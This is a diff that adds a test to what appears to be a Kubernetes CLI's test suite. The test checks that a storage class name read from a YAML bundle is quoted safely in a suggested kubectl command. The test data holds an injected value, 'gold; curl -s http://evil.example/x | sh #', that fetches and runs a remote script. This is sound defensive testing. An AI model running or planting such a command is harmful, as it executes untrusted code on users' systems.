@@ -106,6 +106,17 @@ describe("terminal escapes from the data", () => {
     }
   });
 
+  it("a name from the bundle in a suggested command is one quoted shell word, never code to paste", async () => {
+    const d = mkdtempSync(join(tmpdir(), "knp-vac-"));
+    const text = readFileSync("examples/azure-zones/bundle.yaml", "utf8");
+    const edited = text.replace("        volumeName: pvc-0a20ee9f-0c34-11e9-b302-000d3aa0aa40\n", "        volumeName: pvc-0a20ee9f-0c34-11e9-b302-000d3aa0aa40\n        volumeAttributesClassName: 'gold; curl -s http://evil.example/x | sh #'\n");
+    expect(edited).not.toBe(text);
+    writeFileSync(join(d, "bundle.yaml"), edited);
+    const r = await cli(["pvc/md", "--why-pending", "--from", join(d, "bundle.yaml")]);
+    expect(r.out).toContain("kubectl get volumeattributesclass 'gold; curl -s http://evil.example/x | sh #'; create it");
+    expect(r.out).not.toContain("volumeattributesclass gold;");
+  });
+
   it("a colour marker cannot be forged from the data (the marker's tag is per process)", () => {
     const forged = ["\ue00031\ue001", "\ue000x31\ue001", "a\u001b[31mb"].join(" ");
     expect(printable(forged)).not.toContain("\u001b");
